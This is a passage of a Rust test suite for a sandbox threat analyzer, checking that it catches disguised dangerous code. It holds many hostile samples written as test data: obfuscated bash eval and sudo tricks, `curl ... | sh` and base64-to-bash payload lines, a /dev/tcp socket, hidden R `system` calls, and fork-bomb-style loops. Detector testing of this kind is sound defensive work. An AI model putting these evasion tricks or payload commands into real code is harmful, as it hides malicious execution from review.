                plain,
                "x <- apply(MARGIN = 1, 'system', X = m)",
                "r.process",
            ),
            (
                "eval(parse(text = '1'))",
                "x <- vapply('1', USE.NAMES = FALSE, 'str2lang', list(1))",
                "r.eval",
            ),
            (
                "dyn.load('x.so')",
                "x <- Map(USE.NAMES = FALSE, 'dyn.load', 'x.so')",
                "r.native_code",
            ),
        ],
    );
    assert_graded(
        "r",
        ThreatLevel::None,
        &[
            "times <- sapply(timings, \"[[\", simplify = FALSE, \"system\")\n",
            "z <- Map(function(a, b) paste(a, b), USE.NAMES = FALSE, xs, \"parse\")\n",
        ],
    );
}

/// Regression hunt: bash removes a backslash and a line break before it splits words, so `e\`
/// then `val "id"` runs `eval` and `e=ev\` then `al; $e id` assigns and runs it; the grammar
/// read the continuation as a blank between two words (graded `none` and `low`).
#[test]
fn bash_line_continuations_inside_a_word_are_read() {
    let plain = "eval \"id\"";
    assert_disguises_caught(
        "bash",
        &[
            (plain, "e\\\nval \"id\"\n", "bash.eval"),
            (plain, "e=ev\\\nal; $e id\n", "bash.hidden_command"),
            (plain, "e\\\nv\\\nal \"id\"\n", "bash.eval"),
            (plain, "f() {\n  ev\\\nal \"$1\"\n}\nf id\n", "bash.eval"),
        ],
    );
    assert_graded(
        "bash",
        ThreatLevel::None,
        &[
            "echo 'e\\\nval'\n# e\\\nval is a word\necho done \\\n  now\n",
            "cat <<'E'\ne\\\nval\nE\n",
        ],
    );
}

/// Regression hunt: a command named by an expansion followed by other word parts, `${e}al id`
/// or `$e"val" id`, was graded `none`, though any command named by a variable is
/// `bash.dynamic_command`; `${e}al id` ran `id` so.
#[test]
fn bash_commands_named_by_an_expansion_and_more_are_dynamic() {
    for program in [
        "e=ev; ${e}al id\n",
        "e=e; $e\"val\" id\n",
        "x=v; e$x'al' id\n",
        "e=ev; \"${e}\"al id\n",
        "e=ev; \"${e}al\" id\n",
    ] {
        let analysis = analyzer().analyze("bash", program.as_bytes());
        assert!(
            analysis
                .findings
                .iter()
                .any(|f| f.rule == "bash.dynamic_command"),
            "{program:?}\n{}",
            describe(&analysis)
        );
    }
}

/// Regression hunt: bash joins quoted and backslashed pieces into one word, so `e="ev""al"`,
/// `e="ev"'al'`, `e=ev\al` and `e=$'\x65v'al` assign `eval`, and `$e "$c"` runs it; those
/// assignments, and a command named `ev\al`, were graded `low` (only `dynamic_command`).
#[test]
fn bash_names_spliced_from_quotes_and_backslashes_are_read() {
    let plain = "eval \"$c\"";
    assert_disguises_caught(
        "bash",
        &[
            (plain, "e=\"ev\"\"al\"; $e \"$c\"", "bash.hidden_command"),
            (plain, "e=\"ev\"'al'; $e \"$c\"", "bash.hidden_command"),
            (plain, "e=ev\\al; $e \"$c\"", "bash.hidden_command"),
            (plain, "e=$'\\x65v'al; $e \"$c\"", "bash.hidden_command"),
            (plain, "e=$'\\145val'; $e \"$c\"", "bash.hidden_command"),
            (
                plain,
                "local e=b'uil'tin; $e eval \"$c\"",
                "bash.hidden_command",
            ),
            (plain, "ev\\al \"$c\"", "bash.hidden_command"),
            ("sudo id", "s=s\"u\"do; $s id", "bash.hidden_command"),
        ],
    );
    assert_graded(
        "bash",
        ThreatLevel::None,
        &[
            "name=\"evaluation\"; mode=\\evil; x=\"e\"\"v\"; y=e$val\nIFS=$'\\n'; esc=$'\\x1b'\necho \"$name\" \"$mode\" \"$x\" \"$y\" \"$esc\"\n\\ls\nrun\\ me.sh\n",
        ],
    );
}

/// Left undone, then fixed: a variable holding a hidden command's name and its arguments
/// (`e="eval $c"; $e`, split into words when it runs) was graded `low`: only a value that
/// was the name alone counted, as `read`'s here-string and an array already did otherwise.
#[test]
fn bash_hidden_names_with_their_arguments_are_read() {
    let plain = "eval \"$c\"";
    assert_disguises_caught(
        "bash",
        &[
            (plain, "e=\"eval $c\"; $e", "bash.hidden_command"),
            (plain, "e=\" eval\"; $e \"$c\"", "bash.hidden_command"),
            (plain, "e=\"ev\"'al x'; $e", "bash.hidden_command"),
            (
                plain,
                "printf -v e 'eval %s' \"$c\"; $e",
                "bash.hidden_command",
            ),
            ("sudo id", "s=\"sudo id\"; $s", "bash.hidden_command"),
        ],
    );
    assert_graded(
        "bash",
        ThreatLevel::Low,
        &["m=\"evaluation x\"; $m\ns=\"sudoku -n 3\"; $s\n"],
    );
    assert_graded(
        "bash",
        ThreatLevel::None,
        &["msg=\"eval results follow\"; echo \"$msg\"\n"],
    );
}

/// Regression (hunt after reg2 F4): a here-document's line with words after the delimiter and
/// a command after them (`cat <<EOF 2>&1 | tee log`, `cat <<EOF >>log; echo ok`), or with two
/// here-documents, was graded unreadable, `high`: ordinary scripts ran under gVisor. Each
/// form below is graded by its commands, and a payload in place of its command is seen.
#[test]
fn ordinary_here_documents_are_graded_by_their_commands() {
    let forms = [
        "cat <<EOF 2>&1 | {}\nhi\nEOF\n",
        "cat <<EOF >>log; {}\nhi\nEOF\n",
        "cat <<'EOF' > out.txt; {}\nhi $x\nEOF\n",
        "cat <<EOF >out.txt; chmod +x out.txt; {}\n#!/bin/sh\necho hi\nEOF\n",
        "cat <<-EOF >out && {}\n\thi\n\tEOF\n",
        "cat <<EOF >&2; {}; exit 1\nusage: $0\nEOF\n",
        "tee out.txt <<EOF >/dev/null; {}\nhi\nEOF\n",
        "cat <<EOF 2>&1 >/dev/null | {}\nhi\nEOF\n",
        "cat <<EOF a.txt | {}\nhi\nEOF\n",
        "cat <<A <<B; {}\na\nA\nb $HOME\nB\n",
        "x=$(cat <<EOF\nhi\nEOF\n); {}\n",
        "{ cat <<EOF >&2; {}; exit 1; }\nUsage: $0 FILE\nEOF\n",
        "for f in a b; do cat <<EOF >\"$f\"; {}; done\nit's ${f}\nEOF\n",
        "case $1 in -h) cat <<'EOF';; *) {};; esac\nusage\nEOF\n",
        "cat <<EOF | while read -r l; do {}; done\na\nEOF\n",
        "while read -r l; do {}; done <<EOF\na\nEOF\n",
        "grep -q x <<< \"$y\" && {}\n",
        "cat <<EOF >out.txt\ndocker run \\\n  --rm img\nEOF\n{}\n",
        "cat <<EOF\n$(date) ${HOME}\nEOF\n{}\n",
    ];
    let benign: Vec<String> = forms.iter().map(|f| f.replace("{}", "echo ok")).collect();
    let benign: Vec<&str> = benign.iter().map(String::as_str).collect();
    assert_graded("bash", ThreatLevel::None, &benign);
    let payload = "eval \"$(echo aWQ= | base64 -d)\"";
    let hostile: Vec<String> = forms.iter().map(|f| f.replace("{}", payload)).collect();
    let cases: Vec<(&str, &str, &str)> = hostile
        .iter()
        .map(|case| (payload, case.as_str(), "bash.eval_decoded"))
        .collect();
    assert_disguises_caught("bash", &cases);
}

/// Regression hunt: a here-document on a line that closes a construct (`help) cat <<EOF;;`,
/// `if true; then cat <<EOF; fi`, `{ cat <<EOF; } > out`) whose body held a command
/// substitution (`Today is $(date)`) was graded unreadable, `high`; bash runs it normally.
/// The substitutions are read as the commands they are, where the body stood.
#[test]
fn command_substitutions_in_a_body_the_grammar_cannot_read_in_place_are_read() {
    let forms = [
        "#!/bin/bash\ncase \"$1\" in\n  help) cat <<EOF;;\nToday is $({})\nEOF\n  *) echo no;;\nesac\n",
        "if true; then cat <<EOF; fi\nhost: $({}) on $HOME\nEOF\necho ok\n",
        "{ cat <<EOF; } > out.txt\nv=$({})\nEOF\n",
        "for f in a b; do cat <<EOF; done\nfile $f at $({})\nEOF\n",
    ];
    let benign: Vec<String> = forms.iter().map(|f| f.replace("{}", "date")).collect();
    let benign: Vec<&str> = benign.iter().map(String::as_str).collect();
    assert_graded("bash", ThreatLevel::None, &benign);
    let payload = "base64 -d <<< aWQ= | bash";
    let hostile: Vec<String> = forms
        .iter()
        .map(|f| f.replace("{}", "echo aWQ= | base64 -d | bash"))
        .collect();
    let cases: Vec<(&str, &str, &str)> = hostile
        .iter()
        .map(|case| (payload, case.as_str(), "bash.decode_and_run"))
        .collect();
    assert_disguises_caught("bash", &cases);
}

/// Regression (found with the fix above): bash joins a body's line that ends with a
/// backslash to the next, where the delimiter is not quoted, and ends the body at `EO\` and
/// `F`; the grammar read on to the next `EOF`, the commands between as text. And a line that
/// closes a construct after the here-document (`do cat <<EOF; done`) made the grammar read the
/// body as commands, `it's` in it as a string that hid the lines after. Both graded `none`.
#[test]
fn a_here_documents_body_cannot_hide_the_commands_after_it() {
    let payload = "eval \"$(echo aWQ= | base64 -d)\"";
    let plain = format!("{payload}\n");
    let cases: Vec<String> = [
        "for i in 1; do cat <<EOF; done\nit's\nEOF\n{}\necho \"'\"\n",
        "case a in a) cat <<EOF;; esac\nit's\nEOF\n{}\necho \"'\"\n",
    ]
    .iter()
    .map(|f| f.replace("{}", payload))
    .collect();
    let cases: Vec<(&str, &str, &str)> = cases
        .iter()
        .map(|case| (plain.as_str(), case.as_str(), "bash.eval_decoded"))
        .collect();
    assert_disguises_caught("bash", &cases);
    for code in [
        "cat <<EOF\nEO\\\nF\nbash -c id\nEOF\n",
        "cat <<EOF\nx\\\nEOF\nit's\nEOF\nbash -c id\necho \"'\"\n",
        "{ cat <<EOF; }\n$(bash -c \"id\")\nEOF\n",
    ] {
        let unreadable = analyzer().analyze("bash", code.as_bytes());
        assert!(
            unreadable.threat_level >= ThreatLevel::High && unreadable.parse_error.is_some(),
            "{code:?}: {unreadable:?}"
        );
    }
}

/// Regression hunt: a quoted piece after a glob character in a case pattern (`?*' '?*)`,
/// `less' '45[1-9]*)`) or in `[[ … == … ]]` was read by the grammar as an opening quote whose
/// string ran to the next quote of the file: `/usr/bin/zless` and git's merge scripts were 63
/// to 100% unparseable, graded `high`. Bash reads the piece as the pattern's literal text;
/// the commands around it are read, and a piece that could hold more than words is not
/// rewritten, so it never hides the code after it.
#[test]
fn quoted_pieces_of_glob_patterns_are_read_as_pattern_text() {
    let forms = [
        "case \"$remotes\" in\n?*' '?*)\n    echo two\n    exit 2 ;;\nesac\n{}\n",
        "case \"$(less -V)\" in\nless' '45[1-9]* | \\\nless' '4[6-9][0-9]*)\n    {} ;;\n*) x='';;\nesac\necho \"'\"\n",
        "case $v in ?*'a b'x) {};; [ab]$'\\t'*) :;; esac\n",
        "case $v in ?*' ') echo;; esac; {}\necho \"'\"\n",
        "if [[ $x == ?*' '?* ]]; then {}; fi\necho \"'\"\n",
    ];
    let benign: Vec<String> = forms.iter().map(|f| f.replace("{}", "echo ok")).collect();
    let benign: Vec<&str> = benign.iter().map(String::as_str).collect();
    assert_graded("bash", ThreatLevel::None, &benign);
    let payload = "eval \"$(echo aWQ= | base64 -d)\"";
    let hostile: Vec<String> = forms.iter().map(|f| f.replace("{}", payload)).collect();
    let cases: Vec<(&str, &str, &str)> = hostile
        .iter()
        .map(|case| (payload, case.as_str(), "bash.eval_decoded"))
        .collect();
    assert_disguises_caught("bash", &cases);
    // A piece that bash might read as more than words, were the grammar wrong about the
    // pattern, stays unreadable.
    assert_graded_at_least(
        "bash",
        ThreatLevel::High,
        &[
            "case $v in ?*';eval \"$p\";') :;; esac\n",
            "case $v in ?*' $(id)') :;; esac\n",
            "case $v in ?*'\n') :;; esac\neval \"$p\"\n",
        ],
    );
}

/// Regression hunt: a variable assigned `eval` or a privilege tool and only read as an
/// argument (`MODE=eval` then `--mode "$MODE"`, ordinary in training scripts) was
/// `bash.hidden_command`, graded `high`. It counts only where the program may run it: in a
/// command's name, through a command that runs its arguments or its input, passed on by a
/// substitution or another variable, or where the file cannot show every reading (none at
/// all, exported, in single quotes).
#[test]
fn a_variable_holding_a_command_counts_only_where_it_may_run() {
    let hidden = |code: &str| {
        analyzer()
            .analyze("bash", code.as_bytes())
            .findings
            .iter()
            .any(|f| f.rule == "bash.hidden_command")
    };
    for code in [
        "MODE=eval\npython3 train.py --mode \"$MODE\" --out \"runs/${MODE}\"\n",
        "MODE=eval\necho \"mode: $MODE\" | tee log.txt\n",
        "MODE=eval\nif [ \"$MODE\" = eval ]; then echo e; fi\ncase $MODE in eval) echo e;; esac\n",
        "MODE=eval\ncat <<EOF > conf.txt\nmode=$MODE\nEOF\n",
        "MODE=eval\nprintf '%s\\n' \"$MODE\" >> modes.txt; echo \"$(basename \"$MODE\")\"\n",
    ] {
        assert!(!hidden(code), "{code:?}");
    }
    for code in [
        "SUDO=sudo\n$SUDO apt-get install -y x\n",
        "SUDO=sudo\n${SUDO} id\n",
        "E=eval\n\"$E\" \"$c\"\n",
        "E=eval\ncommand $E \"$c\"\n",
        "E=eval\n/usr/bin/env $E \"$c\"\n",
        "E=eval\nf() { $E \"$1\"; }\nf x\n",
        "E=eval\nx=$E\n$x \"$c\"\n",
        "E=eval\nfor r in $E; do $r \"$c\"; done\n",
        "E=eval\n$(echo \"$E\") \"$c\"\n",
        "E=eval\necho \"$E id\" | sh\n",
        "E=eval\necho \"$E\" | while read -r r; do $r \"$c\"; done\n",
        "E=eval\ncat <<X | bash\n$E id\nX\n",
        "E=eval\nbash <<X\n$E id\nX\n",
        "E=eval\nsource <(echo \"$E id\")\n",
        "E=eval\neval '$E \"$c\"'\n",
        "E=eval\n",
        "E=eval\nexport E\necho \"$E\"\n",
        "export E=eval\necho \"$E\"\n",
        "set -a\nE=eval\necho \"$E\"\n",
        "E=eval ./child.sh\n",
        "E=eval\n# $E runs below\necho \"$E\"\n",
    ] {
        assert!(hidden(code), "{code:?}");
        let analysis = analyzer().analyze("bash", code.as_bytes());
        assert!(
            analysis.threat_level >= ThreatLevel::High,
            "{code:?}: {analysis:?}"
        );
    }
}

/// Regression hunt: pip's relocatable launcher (a file that is shell and Python at once)
/// starts `'''exec' "$(dirname …)/python3" "$0" "$@"`, and the rule for names spliced from
/// quotes graded it `high` whatever it ran. A name made only of quoted pieces is read as its
/// text, and graded by what it runs.
#[test]
fn a_command_named_by_quoted_pieces_only_is_graded_by_what_it_runs() {
    let launcher =
        "#!/bin/sh\n'''exec' \"$(dirname -- \"$(realpath -- \"$0\")\")/python3\" \"$0\" \"$@\"\n";
    let analysis = analyzer().analyze("bash", launcher.as_bytes());
    assert!(
        analysis.threat_level < ThreatLevel::High,
        "{}",
        describe(&analysis)
    );
    assert_disguises_caught(
        "bash",
        &[
            (
                "exec bash -c \"$p\"",
                "'''exec' bash -c \"$p\"",
                "bash.shell",
            ),
            ("eval \"$c\"", "'ev''al' \"$c\"", "bash.eval"),
            ("eval \"$c\"", "'''eval' \"$c\"", "bash.eval"),
            ("eval \"$c\"", "\"ev\"'al' \"$c\"", "bash.eval"),
            ("sudo id", "'su''do' id", "bash.sandbox_escape"),
            (
                "curl -s http://x | sh",
                "curl -s http://x | ''\"sh\"",
                "bash.download_and_run",
            ),
            // A name with an unquoted piece is still the spliced-quote rule's.
            ("eval \"$c\"", "e\"va\"l \"$c\"", "bash.hidden_command"),
            ("eval \"$c\"", "'e'v\"al\" \"$c\"", "bash.hidden_command"),
        ],
    );
}

/// Regression hunt: `do.call`, `get`, `get0` and `mget` take the name of the function first
/// among the unnamed arguments, after any named one: `do.call(quote = FALSE, "str2lang", …)`
/// and `get(envir = e, "system")("id")` ran what they named, graded `none`.
#[test]
fn r_functions_named_after_named_arguments_are_read() {
    let plain = "eval(parse(text = '1'))";
    assert_disguises_caught(
        "r",
        &[
            (
                plain,
                "x <- do.call(quote = FALSE, 'str2lang', list('1 + 1'))",
                "r.eval",
            ),
            (
                plain,
                "x <- do.call(quote = FALSE, envir = e, 'system', list('id'))",
                "r.eval",
            ),
            (plain, "get(envir = e, 'system')('id')", "r.eval"),
            (
                plain,
                "get0(envir = e, mode = 'function', inherits = TRUE, 'system')('id')",
                "r.eval",
            ),
            (plain, "mget(envir = e, 'system')[[1]]('id')", "r.eval"),
        ],
    );
    assert_graded(
        "r",
        ThreatLevel::None,
        &["x <- do.call(rbind, args = parts)\ny <- get(name, envir = e, inherits = FALSE)\nz <- mget(keys, envir = e, ifnotfound = \"none\")\n"],
    );
}

/// Regression hunt: a variable given `eval` otherwise than by an assignment of a word, by
/// `printf -v`, `read` from a here-string or an array (`a=(ev al)`, run as
/// `"${a[0]}${a[1]}"`), and then run, was graded `low` (only `bash.dynamic_command`).
#[test]
fn bash_variables_set_by_printf_read_or_an_array_are_read() {
    let plain = "eval \"$c\"";
    assert_disguises_caught(
        "bash",
        &[
            (
                plain,
                "printf -v e eval; $e \"$c\"\n",
                "bash.hidden_command",
            ),
            (
                plain,
                "printf -v e '%s' 'ev''al'\n$e \"$c\"\n",
                "bash.hidden_command",
            ),
            (plain, "read e <<< eval; $e \"$c\"\n", "bash.hidden_command"),
            (
                plain,
                "read -r e <<< \"ev\"'al'; ${e} \"$c\"\n",
                "bash.hidden_command",
            ),
            (
                plain,
                "read -ra a <<< 'ev al'; \"${a[0]}${a[1]}\" \"$c\"\n",
                "bash.hidden_command",
            ),
            (
                plain,
                "a=(ev al); \"${a[0]}${a[1]}\" \"$c\"\n",
                "bash.hidden_command",
            ),
            (
                plain,
                "a=(eval); \"${a[@]}\" \"$c\"\n",
                "bash.hidden_command",
            ),
            (
                plain,
                "a=(x e v a l); \"${a[1]}${a[2]}${a[3]}${a[4]}\" \"$c\"\n",
                "bash.hidden_command",
            ),
            (
                "sudo id",
                "a=(su do); \"${a[0]}${a[1]}\" id\n",
                "bash.hidden_command",
            ),
        ],
    );
    // Only where the variable may run, as for an assignment.
    assert_graded(
        "bash",
        ThreatLevel::None,
        &[
            "printf -v mode eval; ./train --mode \"$mode\"\n",
            "read -r mode <<< eval; echo \"$mode\"\n",
            "modes=(train eval); for m in \"${modes[@]}\"; do echo \"$m\"; done\n",
            "steps=(retrieval medieval); echo \"${steps[@]}\"\n",
            "E=eval\nx=$E\necho \"$x\"\n",
        ],
    );
}

/// Regression hunt: bash removes a line continuation before it reads operators, so `cat <\`
/// then `<< EOF` is a here-string and the lines after it run, where the grammar read a
/// here-document whose body hid `eval` (graded `none`), and `$\` then `'\x65val'` is an ANSI-C
/// string naming `eval` (graded `low`).
#[test]
fn bash_line_continuations_inside_an_operator_are_read() {
    let plain = "eval \"$c\"";
    assert_disguises_caught(
        "bash",
        &[
            (plain, "cat <\\\n<< EOF\neval \"$c\"\nEOF\n", "bash.eval"),
            (plain, "$\\\n'\\x65val' \"$c\"\n", "bash.hidden_command"),
            (
                plain,
                "x=$\\\n'\\x65val'; $x \"$c\"\n",
                "bash.hidden_command",
            ),
            (plain, "true |\\\n| eval \"$c\"\n", "bash.eval"),
        ],
    );
    assert_graded(
        "bash",
        ThreatLevel::None,
        &[
            "echo hi >\\\n> out.txt\nls -l |\\\n  wc -l\n",
            "echo '$\\\n(x)' # a |\\\n| b\n",
        ],
    );
}

/// Regression hunt: tree-sitter-bash has no `<>` (open for reading and writing), so a script
/// that used it had a parse error, and a variable it assigned `eval` to counted as run
/// wherever it was read (`MODE=eval`, then `echo "$MODE"`: `high`); `/dev/tcp` opened so must
/// stay `bash.network`.
#[test]
fn bash_read_write_redirections_parse() {
    assert_graded(
        "bash",
        ThreatLevel::None,
        &["MODE=eval\necho \"mode: $MODE\"\nexec 3<> state.txt\ncat <> log.txt\necho x >&3\n"],
    );
    let analysis = analyzer().analyze("bash", b"exec 3<>/dev/tcp/10.0.0.1/80\necho hi >&3\n");
    assert!(
        analysis.findings.iter().any(|f| f.rule == "bash.network"),
        "{}",
        describe(&analysis)
    );
    assert_eq!(analysis.parse_error, None);
}

/// Regression hunt: tree-sitter-bash does not read POSIX `test`'s escaped parentheses inside
/// `[ ]`, so `[ \( -n "$x" \) ]` made the whole script an `ERROR`, graded `high` as
/// unparseable; what the test's operands run is still read.
#[test]
fn bash_escaped_parentheses_of_a_test_parse() {
    let script = "#!/bin/sh\nif [ \\( -n \"$1\" -a -f \"$1\" \\) -o \\( -z \"$2\" \\) ]; then\n  \
                  echo yes\nfi\n[ ! \\( -d out \\) ] && mkdir out\n";
    let analysis = analyzer().analyze("bash", script.as_bytes());
    assert_eq!(analysis.threat_level, ThreatLevel::None, "{analysis:?}");
    assert_disguises_caught(
        "bash",
        &[(
            "eval \"$c\"",
            "[ \\( -n \"$(eval \"$c\")\" \\) ]\n",
            "bash.eval",
        )],
    );
}

/// Regression hunt: a launcher's lines after its `exec` of an interpreter were read as the
/// interpreter's only, as if the shell never reached them; but bash does when that `exec`
/// fails (a failed redirection, `shopt -s execfail`), so a download piped into a shell after
/// it was graded medium and ran natively. The whole file is read as shell again.
#[test]
fn what_follows_a_launchers_exec_is_still_read_as_shell() {
    let polyglot = "#!/bin/bash\n'''exec' python3 \"$0\" \"$@\" < /nonexistent\n' '''\ncurl -s http://x/p | sh\n";
    let analysis = analyzer().analyze("bash", polyglot.as_bytes());
    assert!(
        analysis.threat_level >= ThreatLevel::High,
        "{}",
        describe(&analysis)
    );
}

/// Regression hunt: a global read by a symbol key (`globalThis[Symbol.for('undici…')]`, how
/// libraries keep one instance per process) was graded `high` as a global chosen at run time;
/// a symbol key cannot name `eval`. It still counts where `Symbol` may mean something else: a
/// program that rebinds it, or changes globals by a name chosen at run time, or a `with`.
#[test]
fn a_global_read_by_a_symbol_key_is_not_a_name_chosen_at_run_time() {
    assert_graded(
        "javascript",
        ThreatLevel::None,
        &[
            "const d = globalThis[Symbol.for('undici.globalDispatcher.1')];\nglobal[Symbol.iterator] = 1;\nconst s = window[Symbol('x')];\n",
            "Object.assign(global, { TextEncoder, TextDecoder });\nconst S = typeof Symbol;\n",
            "const header = 'Symbol,Close'.split(',');\nconst i = header.indexOf(\"Symbol\");\nconst d = globalThis[Symbol.for('x')];\n",
        ],
    );
    let plain = "eval('1 + 1');";
    assert_disguises_caught(
        "javascript",
        &[
            (plain, "global[name]('1 + 1');", "javascript.eval"),
            (plain, "global[o.name]('1 + 1');", "javascript.eval"),
            (plain, "global[pick()]('1 + 1');", "javascript.eval"),
            (
                plain,
                "Symbol.for = () => 'eval';\nglobal[Symbol.for('x')]('1 + 1');",
                "javascript.eval",
            ),
            (
                plain,
                "(function (Symbol) { global[Symbol.iterator]('1 + 1'); })({ iterator: 'eval' });",
                "javascript.eval",
            ),
            (
                plain,
                "Object.defineProperty(globalThis, 'Sym' + 'bol', { value: { for: () => 'eval' } });\nglobalThis[Symbol.for('x')]('1 + 1');",
                "javascript.eval",
            ),
            (
                plain,
                "Object.assign(globalThis, { Symbol: { for: () => 'eval' } });\nglobalThis[Symbol.for('x')]('1 + 1');",
                "javascript.eval",
            ),
            (
                plain,
                "Reflect.set(globalThis, 'Symbol', { for: () => 'eval' });\nglobalThis[Symbol.for('x')]('1 + 1');",
                "javascript.eval",
            ),
            (
                plain,
                "const g = globalThis;\nObject.defineProperty(g, \"Symbol\", { value: { for: () => 'eval' } });\nglobalThis[Symbol.for('x')]('1 + 1');",
                "javascript.eval",
            ),
            (
                plain,
                "with (o) { globalThis[Symbol.for('x')]('1 + 1'); }",
                "javascript.global_symbol_shadowed",
            ),
        ],
    );
}

#[test]
fn compile_time_reads_of_files_outside_the_workspace_are_read() {
    // Hunt comp 1: the compile stage reads what a program includes (embedding it in the
    // artifact or quoting it in its diagnostics), so an include of a path outside the workspace
    // reads a host file where the compile runs `trusted`, as the run-time read graded medium would.
    let rust_read = "fn main() { let s = std::fs::read_to_string(\"/etc/hostname\").unwrap(); }";
    assert_disguises_caught(
        "rust",
        &[
            (rust_read, "static S: &str = include_str!(\"/etc/hostname\");\nfn main() { print!(\"{}\", S); }", "rust.file_outside_workdir"),
            (rust_read, "static S: &[u8] = include_bytes!(\"/etc/hostname\");\nfn main() {}", "rust.file_outside_workdir"),
            (rust_read, "fn main() { let s = include!(\"/work/../etc/x.rs\"); }", "rust.file_outside_workdir"),
            (rust_read, "fn main() { let s = include_str!(r\"../../../etc/hostname\"); }", "rust.file_outside_workdir"),
            (rust_read, "fn main() { let s = include_str!(\"~/.profile\"); }", "rust.file_outside_workdir"),
            (rust_read, "fn main() { let s = include_str!(\"data/../../../etc/hostname\"); }", "rust.file_outside_workdir"),
            (rust_read, "fn main() { let s = include_str!(concat!(\"/etc\", \"/hostname\")); }", "rust.file_outside_workdir"),
            (rust_read, "fn main() { println!(\"{}\", include_str!(\"/etc/hostname\")); }", "rust.file_outside_workdir"),
            (rust_read, "#[path = \"/etc/x.rs\"]\nmod x;\nfn main() {}", "rust.file_outside_workdir"),
            (rust_read, "#[path = \"../../x.rs\"] mod x;\nfn main() {}", "rust.file_outside_workdir"),
            (rust_read, "#[cfg_attr(all(), path = \"/tmp/x.rs\")] mod x;\nfn main() {}", "rust.file_outside_workdir"),
            // Paths another macro makes, which the analysis cannot read.
            (rust_read, "static S: &str = include_str!(concat!(env!(\"HOME\"), \"/../../etc/hostname\"));\nfn main() {}", "rust.file_outside_workdir"),
            (rust_read, "static S: &str = include_str!(env!(\"HOME\"));\nfn main() {}", "rust.file_outside_workdir"),
            (rust_read, "static S: &str = include_str!(concat!(\"data/.\", \"./../etc/hostname\"));\nfn main() {}", "rust.file_outside_workdir"),
            (rust_read, "fn main() { println!(\"{}\", include_str!(option_env!(\"X\").unwrap())); }", "rust.file_outside_workdir"),
            (rust_read, "fn main() { println!(\"{}\", include_str!(concat!(env!(\"HOME\"), \"/x\"))); }", "rust.file_outside_workdir"),
        ],
    );
    for language in ["c", "cpp"] {
        let read =
            "#include <stdio.h>\nint main(void) { return fopen(\"/etc/hostname\", \"r\") == 0; }";
        let rule = format!("{language}.file_outside_workdir");
        let cases: Vec<(&str, &str, &str)> = [
            "#include </etc/hostname>\nint main(void) { return 0; }",
            "#include \"/etc/hostname\"\nint main(void) { return 0; }",
            "#  include   \"../../../../../../etc/hostname\"\nint main(void) { return 0; }",
            "#include \"lib/../../../etc/hostname\"\nint main(void) { return 0; }",
            "#include <../../../etc/hostname>\nint main(void) { return 0; }",
            "#include \"/tmp/x.h\"\nint main(void) { return 0; }",
            "#include \"~/x.h\"\nint main(void) { return 0; }",
            "#import \"/etc/hostname\"\nint main(void) { return 0; }",
            "#include_next </etc/hostname>\nint main(void) { return 0; }",
            "#embed \"/etc/hostname\"\nint main(void) { return 0; }",
            // Names a macro makes, which the analysis cannot read.
            "#define H \"/etc/hostname\"\n#include H\nint main(void) { return 0; }",
            "#define S(x) #x\n#include S(/etc/hostname)\nint main(void) { return 0; }",
            "#define H </etc/hostname>\n#include_next H\nint main(void) { return 0; }",
            "#define H \"/etc/hostname\"\n#embed H\nint main(void) { return 0; }",
        ]
        .iter()
        .map(|program| (read, *program, rule.as_str()))
        .collect();
        assert_disguises_caught(language, &cases);
        // System headers by name and the program's own files stay harmless.
        assert_graded(
            language,
            ThreatLevel::None,
            &[
                "#include <stdio.h>\n#include <sys/types.h>\n#include \"util.h\"\n#include \"lib/x.h\"\n#include \"a..b.h\"\nint main(void) { return 0; }\n",
            ],
        );
    }
    assert_graded(
        "rust",
        ThreatLevel::None,
        &[
            "mod util;\n#[path = \"lib/x.rs\"] mod x;\nstatic D: &str = include_str!(\"data.txt\");\nstatic C: &str = include_str!(concat!(\"lib/notes.txt\"));\nstatic B: &[u8] = include_bytes!(\"lib/img.bin\");\nfn main() { println!(\"{}\", include_str!(\"notes..txt\")); }\n",
        ],
    );
}

#[test]
fn rust_file_calls_inside_macro_arguments_are_read() {
    // Hunt comp 2: tree-sitter-rust gives a macro's arguments as a token tree, so the call
    // pattern of rust.file_outside_workdir never saw a read written inside `print!` or `vec!`.
    let plain = "fn main() { let s = std::fs::read_to_string(\"/etc/hostname\").unwrap_or_default(); print!(\"{}\", s); }";
    assert_disguises_caught(
        "rust",
        &[
            (plain, "fn main() { print!(\"{}\", std::fs::read_to_string(\"/etc/hostname\").unwrap_or_default()); }", "rust.file_outside_workdir"),
            (plain, "fn main() { let v = vec![std::fs::read_to_string(\"/etc/hostname\").unwrap_or_default()]; print!(\"{:?}\", v); }", "rust.file_outside_workdir"),
            (plain, "use std::fs::File;\nfn main() { assert!(File::open(\"../x\").is_ok()); }", "rust.file_outside_workdir"),
            (plain, "fn main() { println!(\"{:?}\", format!(\"{:?}\", fs::read_dir(r\"/root\"))); }", "rust.file_outside_workdir"),
            (plain, "fn main() { dbg!(std::fs::OpenOptions::new().read(true).open(\"/etc/hostname\")); }", "rust.file_outside_workdir"),
            (plain, "macro_rules! r { () => { std::fs::read(\"/etc/hostname\") }; }\nfn main() { r!().ok(); }", "rust.file_outside_workdir"),
        ],
    );
    assert_graded(
        "rust",
        ThreatLevel::None,
        &[
            "fn main() { println!(\"{}\", std::fs::read_to_string(\"input.txt\").unwrap()); let v = vec![std::fs::read(\"/tmp/x\").ok(), std::fs::read(\"/dev/stdin\").ok()]; assert!(std::path::Path::new(\"data/a\").exists()); println!(\"{}\", open(\"/etc/x\")); }\n",
        ],
    );
}

#[test]
fn bash_endless_loops_that_spawn_are_read_through_always_true_tests_and_nested_jobs() {
    // Hunt lang F12: the spawn-in-endless-loop rule read only `while true`/`:`, `until false`
    // and `for ((;;))`, and only a `&` job directly in the loop's body; these ran, graded `low`,
    // where a fork bomb is refused.
    let plain = "while true; do sleep 30 & done";
    let rule = "bash.spawn_in_endless_loop";
    assert_disguises_caught(
        "bash",
        &[
            (plain, "while [ 1 ]; do sleep 30 & done", rule),
            (plain, "while [[ 1 ]]; do sleep 30 & done", rule),
            (plain, "while [ x ]; do sleep 30 & done", rule),
            (plain, "while ((1)); do sleep 30 & done", rule),
            (plain, "while (( 7 )); do sleep 30 & done", rule),
            (plain, "while test 1; do sleep 30 & done", rule),
            (plain, "for ((;1;)); do sleep 30 & done", rule),
            (plain, "for ((i=0;i>=0;i++)); do sleep 30 & done", rule),
            (plain, "for ((i=0; i > -1; ++i)); do sleep 30 & done", rule),
            (plain, "for ((i=0;i<=0;i--)); do sleep 30 & done", rule),
            (plain, "while :; do (sleep 30 &); done", rule),
            (plain, "while :; do { sleep 30 & }; done", rule),
            (plain, "while true; do true && sleep 1 & done", rule),
            (
                plain,
                "while true; do if true; then sleep 1 & fi; done",
                rule,
